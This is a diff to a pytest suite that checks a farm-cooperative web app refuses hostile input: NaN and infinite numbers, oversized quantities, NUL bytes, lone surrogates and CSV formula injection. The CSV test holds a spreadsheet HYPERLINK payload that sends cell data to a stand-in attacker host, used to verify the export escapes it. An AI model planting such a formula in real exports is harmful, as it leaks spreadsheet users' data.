@@ -10,8 +10,11 @@ examples/farm.json, their member ``ana`` claimed by the operator-made account ``
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
+import statistics
 from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
@@ -119,20 +122,24 @@ def test_a_private_pool_is_not_found_by_an_outsider_asking_to_join(site: Site) -
 # --- bounded demand and finite numbers ----------------------------------------------------
 
 
-def test_a_huge_quantity_and_600_wishes_of_a_flat_rate_good_are_refused(
+def test_600_wishes_of_a_huge_quantity_of_a_flat_rate_good_are_refused_and_shares_stay_sane(
     site: Site
 ) -> None:
-    """vegetable_share is flat-rate (its effort is shared by all): ben may get one."""
+    """The issue's attack on the demo, on the farm's flat-rate vegetable_share (limit 1):
+    600 wishes of 100,000 shares each are refused, none stored. Wishes of one share each
+    are taken (each could be met), but the plan gives ben one share at most, and no share
+    reaches ten times the pool's median capacity."""
     wish = {"alternatives": [{"good": "vegetable_share"}]}
+    wishes = f"{API}/pools/{BOOKS}/wishes"
     with site.api("benny") as ben:
-        before = ben.get(f"{API}/pools/{BOOKS}/wishes").json()
-        huge = ben.post(f"{API}/pools/{BOOKS}/wishes", json={**wish, "quantity": 100_000})
-        assert huge.status_code == 422
-        assert "quantity" in huge.text
-        assert ben.get(f"{API}/pools/{BOOKS}/wishes").json() == before
-        answers = [ben.post(f"{API}/pools/{BOOKS}/wishes", json={**wish, "quantity": 1})
-                   .status_code for _ in range(600)]
-    assert set(answers) <= {201, 422}, sorted(set(answers))
+        before = ben.get(wishes).json()
+        huge = [ben.post(wishes, json={**wish, "quantity": 100_000}) for _ in range(600)]
+        assert {answer.status_code for answer in huge} == {422}
+        assert "quantity" in huge[0].text
+        assert ben.get(wishes).json() == before
+        many = [ben.post(wishes, json={**wish, "quantity": 1}).status_code
+                for _ in range(100)]
+    assert set(many) <= {201, 422}, sorted(set(many))
     with site.api("coord") as coord:
         warnings = coord.get(f"{API}/pools/{BOOKS}/period/preview")
         assert warnings.status_code == 200
@@ -140,11 +147,12 @@ def test_a_huge_quantity_and_600_wishes_of_a_flat_rate_good_are_refused(
         cleared = coord.post(f"{API}/pools/{BOOKS}/period/clear")
         assert cleared.status_code == 200, cleared.text
         plan = coord.get(f"{API}/pools/{BOOKS}/periods/1/plan").json()
-    boxes = sum(a["quantity"] for a in plan["allocations"]
-                if a["participant"] == "ben" and a["good"] == "vegetable_share")
-    assert boxes <= 1
-    shares = plan["shares"].values()
-    assert all(0 <= share <= 10 * 12 for share in shares), plan["shares"]
+        members = coord.get(f"{API}/pools/{BOOKS}/members").json()
+    shares = sum(a["quantity"] for a in plan["allocations"]
+                 if a["participant"] == "ben" and a["good"] == "vegetable_share")
+    assert shares <= 1
+    median = statistics.median(m["capacity"] for m in members if m["capacity"] is not None)
+    assert all(0 <= share <= 10 * median for share in plan["shares"].values()), plan["shares"]
 
 
 @pytest.mark.parametrize("fixed_hours", ["1e308", "NaN", "Infinity", "-Infinity", "1e400"])
@@ -185,6 +193,8 @@ def number_attacks() -> list[tuple[str, str, str, dict[str, Any]]]:
                                    "limit": "{n}"}]}),
         ("coord", "POST", f"/pools/{POOL}/invitations", {"days": "{n}"}),
         ("coord", "POST", "/me/tokens", {"days": "{n}"}),
+        ("benny", "PUT", f"/pools/{POOL}/offers/harvest", {"hours": 2, "period": "{n}"}),
+        ("coord", "PATCH", f"/pools/{POOL}", {"public": False, "version": "{n}"}),
     ]
 
 
@@ -210,29 +220,72 @@ def test_a_number_beyond_its_bound_is_refused_wherever_a_number_is_taken(
     assert answer.status_code == 422, (path, answer.text)
 
 
+PAGE_NUMBERS = ["1e308", "nan", "inf", "-inf", str(10**30), "1" * 5000]
+
+
+@pytest.mark.parametrize("number", PAGE_NUMBERS, ids=["1e308", "nan", "inf", "-inf",
+                                                      "10**30", "5000 digits"])
+def test_a_number_beyond_its_bound_in_a_page_form_is_refused(
+    site: Site, number: str, unchanged: None
+) -> None:
+    """ben, signed in on the pages, offers hours and wishes for quantities beyond bounds."""
+    with sign_in_page(site, "benny", "198.51.100.4") as (browser, signed_in):
+        assert signed_in.status_code == 303
+        form = browser.get(f"/pools/{POOL}/goods")
+        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
+        assert token is not None
+        csrf = token.group(1)
+        offer = browser.post(f"/pools/{POOL}/offers/harvest",
+                             data={"hours": number, "min_weight": "1", "csrf_token": csrf})
+        weight = browser.post(f"/pools/{POOL}/offers/harvest",
+                              data={"hours": "2", "min_weight": number, "csrf_token": csrf})
+        wish = browser.post(f"/pools/{POOL}/wishes",
+                            data={"alternative": "good:hill_bread", "quantity": number,
+                                  "csrf_token": csrf})
+    assert [offer.status_code, weight.status_code, wish.status_code] == [422] * 3
+
+
 # --- hostile bytes ------------------------------------------------------------------------
 
 
-HOSTILE_BODIES = {
-    "NaN": '{"hours": NaN}',
-    "Infinity": '{"hours": Infinity}',
-    "-Infinity": '{"hours": 2, "min_weight": -Infinity}',
-    "lone surrogate": '{"hours": 2, "participant": "ben\\ud800"}',
-    "NUL": '{"hours": 2, "participant": "ben\\u0000"}',
-    "NUL in a key": '{"hours\\u0000": 2}',
-}
+HOSTILE_NUMBERS = {"NaN": "NaN", "Infinity": "Infinity", "-Infinity": "-Infinity"}
+HOSTILE_TEXT = {"lone surrogate": ("surrogate", '"ben\\ud800"'), "NUL": ("nul", '"ben\\u0000"')}
+"""Each attack's account name (never made) and its JSON string."""
 
 
-@pytest.mark.parametrize("body", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
-def test_hostile_json_is_refused_never_a_server_error(
-    site: Site, body: str, unchanged: None
+@pytest.mark.parametrize("number", HOSTILE_NUMBERS.values(), ids=HOSTILE_NUMBERS.keys())
+def test_nan_or_infinity_in_a_json_body_is_refused_and_not_stored(
+    site: Site, number: str, unchanged: None
 ) -> None:
     headers = {"Content-Type": "application/json"}
     with site.api("benny") as ben:
-        offer = ben.put(f"{API}/pools/{POOL}/offers/harvest", content=body, headers=headers)
+        hours = ben.put(f"{API}/pools/{POOL}/offers/harvest",
+                        content=f'{{"hours": {number}}}', headers=headers)
+        weight = ben.put(f"{API}/pools/{POOL}/offers/weeding",
+                         content=f'{{"hours": 2, "min_weight": {number}}}', headers=headers)
+        cost = ben.post(f"{API}/pools/{POOL}/wishes", headers=headers, content=(
+            f'{{"alternatives": [{{"good": "hill_bread", "max_cost": {number}}}]}}'))
+    assert (hours.status_code, weight.status_code, cost.status_code) == (422, 422, 422)
+
+
+@pytest.mark.parametrize(("name", "text"), HOSTILE_TEXT.values(), ids=HOSTILE_TEXT.keys())
+def test_a_lone_surrogate_or_nul_in_a_json_string_is_refused_and_not_stored(
+    site: Site, name: str, text: str, unchanged: None
+) -> None:
+    headers = {"Content-Type": "application/json"}
+    with site.api("benny") as ben:
+        offer = ben.put(f"{API}/pools/{POOL}/offers/harvest", headers=headers,
+                        content=f'{{"hours": 2, "participant": {text}}}')
+        profile = ben.patch(f"{API}/me", headers=headers,
+                            content=f'{{"display_name": {text}}}')
+        assert ben.get(f"{API}/me").json()["display_name"] == ""
     with site.client("203.0.113.3") as anonymous:
-        signup = anonymous.post(f"{API}/auth/signup", content=body, headers=headers)
-    assert (offer.status_code, signup.status_code) == (422, 422)
+        signup = anonymous.post(f"{API}/auth/signup", headers=headers, content=(
+            f'{{"name": "{name}", "email": "{name}@example.org", "password": "{PASSWORD}",'
+            f' "display_name": {text}}}'))
+    assert (offer.status_code, profile.status_code, signup.status_code) == (422, 422, 422)
+    assert text.strip('"') not in signup.text
+    assert site.token(name, "203.0.113.3").status_code == 401  # no such account was made
 
 
 BIG_ID = "9" * 20
@@ -257,12 +310,12 @@ def test_a_twenty_digit_number_in_a_path_or_query_is_4xx_never_5xx(
 
 def test_a_nul_in_the_login_is_refused_before_any_account_is_looked_up(site: Site) -> None:
     """``ben\\x00`` signing in anonymously (the page's form and the API's token route)."""
-    with sign_in_page(site, "benny\x00", "203.0.113.4") as (browser, signed_in):
+    with sign_in_page(site, "ben\x00", "203.0.113.4") as (browser, signed_in):
         assert 400 <= signed_in.status_code < 500
-        assert "session" not in browser.cookies or browser.get("/account").status_code != 200
+        assert browser.get("/account").status_code == 303  # signed in as nobody
     with site.client("203.0.113.4") as anonymous:
         token = anonymous.post(f"{API}/auth/tokens",
-                               json={"login": "benny\x00", "password": PASSWORD})
+                               json={"login": "ben\x00", "password": PASSWORD})
     assert 400 <= token.status_code < 500
 
 
@@ -308,7 +361,8 @@ def test_forwarded_for_is_ignored_unless_the_proxy_is_trusted(
 def test_a_bearer_token_does_not_open_the_account_page(site: Site) -> None:
     with site.api("benny") as ben:
         page = ben.get("/account")
-        assert page.status_code in (303, 401, 403), page.status_code
+        assert page.status_code == 303
+        assert page.headers["Location"].startswith("/signin")
         assert "benny@example.org" not in page.text
         assert ben.get(f"{API}/me").status_code == 200
 
@@ -391,25 +445,39 @@ def test_a_coordinator_cannot_confirm_work_she_logged_for_someone_else(
     assert mine and mine[0]["status"] != "confirmed"
 
 
+@pytest.mark.parametrize("hours", ["1e308", "NaN", "Infinity", str(10**30)])
+def test_logged_hours_beyond_any_bound_are_refused_and_not_stored(
+    cleared_books: Site, hours: str
+) -> None:
+    site = cleared_books
+    work = f"{API}/pools/{BOOKS}/work"
+    with site.api("benny") as ben:
+        before = ben.get(work).json()
+        logged = ben.post(work, content=f'{{"task": "harvest", "hours": {hours}}}',
+                          headers={"Content-Type": "application/json"})
+        assert logged.status_code == 422, logged.text
+        assert ben.get(work).json() == before
+
+
 def test_the_csv_export_writes_a_formula_as_text(cleared_books: Site) -> None:
+    """A coordinator's correction whose reason is a spreadsheet formula: the exported cell
+    is that reason after a ``'``, so a spreadsheet shows it as text."""
     site = cleared_books
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with site.api("coord") as coord:
         settled = coord.post(f"{API}/pools/{BOOKS}/period/settle")
         assert settled.status_code == 200, settled.text
-        history = json.loads(coord.get(f"{API}/pools/{BOOKS}/ledger/export",
+        entries = json.loads(coord.get(f"{API}/pools/{BOOKS}/ledger/export",
                                        params={"format": "json"}).text)
-        entries = history if isinstance(history, list) else history["transactions"]
         corrected = coord.post(
             f"{API}/pools/{BOOKS}/ledger/transactions/{entries[0]['id']}/correct",
             json={"reason": formula})
         assert corrected.status_code == 200, corrected.text
         exported = coord.get(f"{API}/pools/{BOOKS}/ledger/export", params={"format": "csv"})
     assert exported.status_code == 200
-    assert "HYPERLINK" in exported.text
-    for line in exported.text.splitlines():
-        for cell in line.split(","):
-            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
+    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
 
 
 def test_the_last_coordinator_can_neither_step_down_nor_leave(
